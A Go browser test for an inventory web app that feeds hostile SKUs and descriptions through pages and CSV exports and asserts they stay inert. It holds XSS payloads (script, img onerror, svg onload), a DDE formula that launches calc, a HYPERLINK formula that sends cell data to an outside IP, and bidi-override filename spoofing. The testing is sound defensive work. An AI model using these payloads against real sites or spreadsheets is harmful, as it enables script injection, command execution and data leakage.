package browser

import (
	"cmp"
	"encoding/csv"
	"fmt"
	"net/url"
	"strconv"
	"strings"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/require"
)

// hostile are words that mean harm to a page, a reader and a spreadsheet: what the warehouse calls a SKU, and what the store says of it; and how
// people see both where that is not as it is.
var hostile = []struct{ sku, words, seenSKU, seenWords string }{
	{sku: `<script>document.body.id="harmed"</script>`, words: `<script>document.body.id="harmed"</script><img src=x onerror='document.body.id="harmed"'>`},
	{sku: `=cmd|'/C calc'!A0`, words: `=HYPERLINK("http://198.51.100.1/?"&A1,"click")`},
	{
		sku: "\u202eGNP.\u202cexe", seenSKU: `\u202eGNP.\u202cexe`,
		words: "\u202e\u2067dnes\u2069 \u200bwords that turn", seenWords: `\u202e\u2067dnes\u2069 \u200bwords that turn`,
	},
	{ // 10,000 characters, of which 500 bytes are kept
		sku: strings.Repeat("W", 512), words: strings.Repeat("The item is refused. ", 476) + "END.", seenWords: strings.TrimSpace(strings.Repeat("The item is refused. ", 23)),
	},
	{
		sku:   `"><svg/onload=document.body.id='harmed'>`,
		words: "\n=1+1\n@SUM(A1)\t\x1b[31mred\x00", seenWords: "=1+1 @SUM(A1) [31mred",
	},
	{ // without a place for a break
		sku: strings.Repeat("مرحبا-", 40), words: strings.Repeat("W", 10_000), seenWords: strings.Repeat("W", 490),
	},
}

// What a warehouse and a store say is shown on every page and in every download as it is, and does nothing.
func TestHostileWords(t *testing.T) {
	t.Parallel()
	r := startRig(t, changes{scenario: func(text string) string {
		var items, poison, words []string
		for _, one := range hostile {
			sku := strconv.QuoteToASCII(one.sku)
			items = append(items, fmt.Sprintf("{sku: %s, facility: main, available: 7}", sku))
			poison = append(poison, sku)
			words = append(words, sku+": "+strconv.QuoteToASCII(one.words))
		}
		const warehouse, store = "    facilities: [main]\n    skus: 120\n", "    latency: 5ms\n"
		require.Contains(t, text, warehouse)
		require.Contains(t, text, store)
		text = strings.Replace(text, warehouse, "    facilities: [main]\n    items: ["+strings.Join(items, ", ")+"]\n", 1)
		return strings.Replace(text, store, fmt.Sprintf("%s    faults: {poison: [%s], poison_words: {%s}}\n", store, strings.Join(poison, ", "), strings.Join(words, ", ")), 1)
	}})
	b := open(t, r.address)
	b.do(chromedp.Navigate(r.link), chromedp.WaitReady("#main"))
	r.worker.start()
	b.visit("/c/birch-shop")
	b.until("#part-recent", "6 rejected")
	b.harmless("hostile-connection")
	b.do(chromedp.Navigate(get(b, chromedp.Evaluate[string](`document.querySelector("#part-recent a").href`))), chromedp.WaitReady("#main"))
	b.harmless("hostile-run")
	for _, one := range hostile {
		require.Contains(t, b.text("main"), cmp.Or(one.seenSKU, one.sku), "the run names it")
		require.Contains(t, b.text("main"), cmp.Or(one.seenWords, one.words), "and what the store says")
	}
	for path, name := range map[string]string{"/c/birch-shop/levels?status=rejected": "hostile-rejected", "/levels?warehouse=boise": "hostile-levels", "/log": "hostile-log"} {
		b.visit(path)
		b.harmless(name)
	}
	for n, one := range hostile {
		b.visit("/sku/birch/" + url.PathEscape(one.sku))
		require.Contains(t, b.text("h1"), cmp.Or(one.seenSKU, one.sku))
		require.Contains(t, b.text("main"), cmp.Or(one.seenWords, one.words))
		b.harmless(fmt.Sprintf("hostile-sku-%d", n))
	}
	for _, path := range []string{"/c/birch-shop/levels.csv", "/levels.csv?warehouse=boise"} {
		text := get(b, chromedp.Evaluate[string](fmt.Sprintf(`fetch(%q).then(r => r.text())`, path), chromedp.EvalAwaitPromise))
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		require.NoError(t, err)
		require.Len(t, rows, 1+len(hostile))
		for _, row := range rows {
			for _, cell := range row {
				require.NotRegexp(t, `^[=+\-@\t\r\n]`, cell, "a spreadsheet computes nothing, in %s", path)
			}
		}
	}
	b.clean()
}

// harmless judges a page on which foreign words are.
func (b *browser) harmless(name string) {
	b.t.Helper()
	b.look(name)
	require.Empty(b.t, get(b, chromedp.Evaluate[string](`document.body.id`)), "nothing runs")
	require.Zero(b.t, get(b, chromedp.Evaluate[int64](`document.querySelectorAll("#main script, #main img, #main svg[onload]").length`)), "nothing foreign becomes a part of the page")
	require.False(b.t, get(b, chromedp.Evaluate[bool](`/[\u200b\u202a-\u202e\u2066-\u2069\u0000-\u0008\u001b]/.test(document.body.textContent)`)), "nothing turns the words round it")
}
